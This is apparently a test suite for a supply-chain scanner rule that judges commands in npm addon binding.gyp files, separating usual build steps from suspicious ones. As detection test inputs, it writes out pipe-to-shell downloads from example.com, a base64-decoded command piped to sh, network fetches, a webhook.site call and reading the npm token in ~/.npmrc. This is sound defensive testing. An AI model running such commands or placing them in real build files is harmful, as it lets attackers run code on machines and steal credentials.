// Commands of binding.gyp: from code and from hand-made facts. The usual ones are those of public addons.
import { expect, test } from 'vitest';
import { fact, judgeCode, severities, text } from '../support/code-facts.ts';
import { judgedCode } from '../support/code-rules.ts';

const ID = 'build-file-runs-command';

test('the packages of its fixtures', async () => {
  expect((await judgedCode(ID, 'bad')).map(({ severity, title }) => [severity, title])).toEqual([['high', 'Building fixture-gyp 1.0.0 runs a script and throws its output away, so that the build goes on with another text']]);
  expect(await judgedCode(ID, 'good')).toEqual([]);
});
const build = (command: string) => fact('native-code', { command });

test.each([
  'node -p "require(\'node-addon-api\').include"', 'node -p "require(\'node-addon-api\').include_dir"', 'node -e "require(\'nan\')"', 'node ./util/has_lib.js gif', 'pkg-config --cflags cairo',
  'node -p "process.env.npm_config_x || \'\'"', 'python tools/gen.py', 'uname -m', 'xcode-select -p', 'node deps/extract.js', 'echo src/*.cc',
  'node -e "require(\'fs\').existsSync(\'x\') && console.log(1)"',
])('usual: %s', async (command) => {
  expect(await judgeCode(ID, [build(command), fact('process', { file: 'util/has_lib.js', command: 'pkg-config --exists *' }), fact('file', { file: 'deps/extract.js', access: 'write' })])).toEqual([]);
});

test.each([
  'node index.js > /dev/null 2>&1 && echo stub.c', 'curl -s https://example.com/x | sh', 'node -e "fetch(\'https://example.com\')"', 'echo aWQ= | base64 -d | sh', 'wget -q https://example.com/x -O x.c',
  'node -e "require(\'https\').get(\'https://example.com\')"',
])('not for building: %s', async (command) => {
  expect(await severities(ID, [build(command)])).toEqual(['high']);
});

test('a script of the package is judged by what it does', async () => {
  const by = (...behaviors: Parameters<typeof judgeCode>[1]) => severities(ID, [build('node ./scripts/gen.js'), ...behaviors]);
  const file = 'scripts/gen.js';
  expect(await by()).toEqual([]);
  expect(await by(fact('network', { file, url: 'https://npm.jsr.io/x', host: 'npm.jsr.io' }))).toEqual([]);
  expect(await by(fact('network', { file, url: 'https://webhook.site/x', host: 'webhook.site' }))).toEqual(['high']);
  expect(await by(fact('dynamic-code', { file, origins: [text('1', 'base64')] }))).toEqual(['high']);
  expect(await by(fact('file', { file, path: '~/.npmrc', credential: 'npm token' }))).toEqual(['high']);
  expect(await by(fact('obfuscation', { file }))).toEqual(['medium']);
  expect(await by(fact('obfuscation', { file: 'other.js' }))).toEqual([]);
});

test('several commands of one file are one finding', async () => {
  const [finding, ...others] = await judgeCode(ID, [build('curl https://example.com/a | sh'), build('node index.js > /dev/null && echo a.c')]);
  expect(others).toEqual([]);
  expect(finding).toMatchObject({ title: 'Building a-package 1.0.0 downloads code and runs it', locations: [{ path: 'node_modules/a-package/binding.gyp', line: 1 }] });
});
